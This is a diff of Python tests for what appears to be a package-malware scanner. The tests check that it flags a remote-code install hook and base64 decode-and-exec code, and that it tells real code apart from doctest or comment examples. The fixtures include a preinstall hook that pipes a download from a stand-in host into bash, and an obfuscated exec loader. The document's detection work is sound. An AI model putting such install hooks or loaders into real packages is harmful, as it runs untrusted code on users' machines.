@@ -247,3 +247,22 @@ def test_signature_in_npm_package_json_hook(engine: Engine) -> None:
     archive = npm_tarball(scripts={"preinstall": "curl https://x.example.net/a | bash"})
     evidence = run_rule(engine, executes_code_at_remote_url_rule, archive)
     assert evidence[0]["file"] == "package/package.json"
+
+
+def test_signal_sits_at_the_code_not_at_the_docstring_example(engine: Engine) -> None:
+    """A doctest line matching first does not demote the code below it to documentation;
+    a technique only present in comments is documentation, on any line of the file."""
+    from tests.analysis.builders import package
+
+    code = (
+        '"""Example:\n\n    >>> import base64\n    >>> exec(base64.b64decode(x))\n"""\n'
+        "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n"
+    )
+    found = decode_and_execute_rule(package(engine, sdist({"tidy_strings/m.py": code})))
+    assert found is not None
+    assert {s.context for s in found.signals} == {"code"}
+    assert found.signals[0].line == 7
+    commented = "import base64\n# exec(base64.b64decode(b'cHJpbnQoMSk='))\n"
+    found = decode_and_execute_rule(package(engine, sdist({"tidy_strings/m.py": commented})))
+    assert found is not None
+    assert {s.context for s in found.signals} == {"docs"}
